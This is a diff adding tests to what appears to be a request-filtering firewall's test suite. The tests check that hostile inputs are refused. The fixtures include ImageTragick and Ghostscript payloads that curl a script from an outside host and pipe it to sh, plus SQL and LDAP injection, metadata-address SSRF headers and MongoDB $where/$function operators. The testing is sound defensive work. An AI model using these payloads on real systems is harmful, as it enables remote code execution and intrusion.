@@ -279,6 +279,49 @@ describe('filter documents and JSON under other media types', () => {
   });
 });
 
+describe('third probe round: placements', () => {
+  const hdr = (name: string, value: string) => req({ headers: { host: 'api.example.com', [name]: value } });
+  const upload = (filename: string, type: string, content: string) =>
+    req({
+      method: 'POST',
+      rawPath: '/images/resize',
+      headers: { host: 'a', 'content-type': 'multipart/form-data; boundary=B' },
+      body: Buffer.from(`--B\r\nContent-Disposition: form-data; name="image"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--B--\r\n`, 'latin1'),
+    });
+
+  test('matrix parameters of a path segment are values of their own', () => {
+    refused(req({ rawPath: '/directory/people;cn=%2A%29%28%26;ou=staff' }), 'LDAP injection in a matrix parameter');
+    refused(req({ rawPath: '/items;id=1%20union%20select%20password%20from%20users' }), 'SQL injection in a matrix parameter');
+    passes(req({ rawPath: '/cars;color=red;year=2012/photos' }), 'ordinary matrix parameters');
+    passes(req({ rawPath: '/app;jsessionid=0A1B2C3D4E5F' }), 'a session id');
+  });
+
+  test('a file declared as an image or PostScript whose bytes are text is read as text', () => {
+    refused(upload('poc.mvg', 'image/png', 'push graphic-context\nviewbox 0 0 640 480\nfill \'url(https://127.0.0.1/x.jpg"|curl "http://203.0.113.7/im.sh" -o /tmp/i; sh /tmp/i")\'\npop graphic-context'), 'ImageTragick MVG');
+    refused(upload('scan.eps', 'application/postscript', '%!PS\nmark /OutputFile (%pipe%curl http://203.0.113.7/gs|sh) currentdevice putdeviceprops'), 'Ghostscript %pipe%');
+    passes(upload('notes.yaml', 'application/x-yaml', 'title: Quarterly report\nowner: "O\'Brien"\nitems:\n  - select a plan\n  - 1 - 2\n'), 'a YAML file');
+    passes(upload('logo.png', 'image/png', '\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR; rm -rf / | sh'), 'binary image bytes are not read as text');
+  });
+
+  test('the metadata address in a proxy header; non-canonical hosts in Referer and Origin', () => {
+    refused(hdr('x-forwarded-host', '169.254.169.254'), 'X-Forwarded-Host');
+    refused(hdr('forwarded', 'for=192.0.2.60;host=169.254.169.254'), 'Forwarded host=');
+    refused(hdr('referer', 'http://0x7f000001:8080/actuator/env'), 'a hex loopback in Referer');
+    refused(hdr('origin', 'http://2130706433'), 'a decimal loopback in Origin');
+    passes(hdr('x-forwarded-for', '203.0.113.9, 10.0.0.1'), 'proxy-filled private addresses');
+    passes(hdr('x-forwarded-host', 'api.example.com:8443'), 'a forwarded host');
+    passes(hdr('referer', 'http://localhost:3000/app/orders'), 'a local development page');
+    passes(hdr('origin', 'http://127.0.0.1:5173'), 'a local development origin');
+  });
+
+  test('MongoDB operators as YAML keys in a text body', () => {
+    const yaml = (body: string) => req({ method: 'POST', rawPath: '/api/search/saved', headers: { host: 'a', 'content-type': 'application/yaml' }, body: Buffer.from(body) });
+    refused(yaml('filter:\n  $expr:\n    $function:\n      body: "function(){ while(1){} }"\n      lang: js\n'), '$function in YAML');
+    refused(yaml('query:\n  - $where: "sleep(5000)"\n'), '$where in a YAML list');
+    passes(yaml('components:\n  schemas:\n    Pet:\n      $ref: ./pet.yaml\nprice: costs $5: cheap\n'), 'a YAML OpenAPI fragment');
+  });
+});
+
 describe('marker check: GraphQL reading keeps to strings', () => {
   test('detectors see the strings of a document, never its structure', () => {
     const seen: string[] = [];
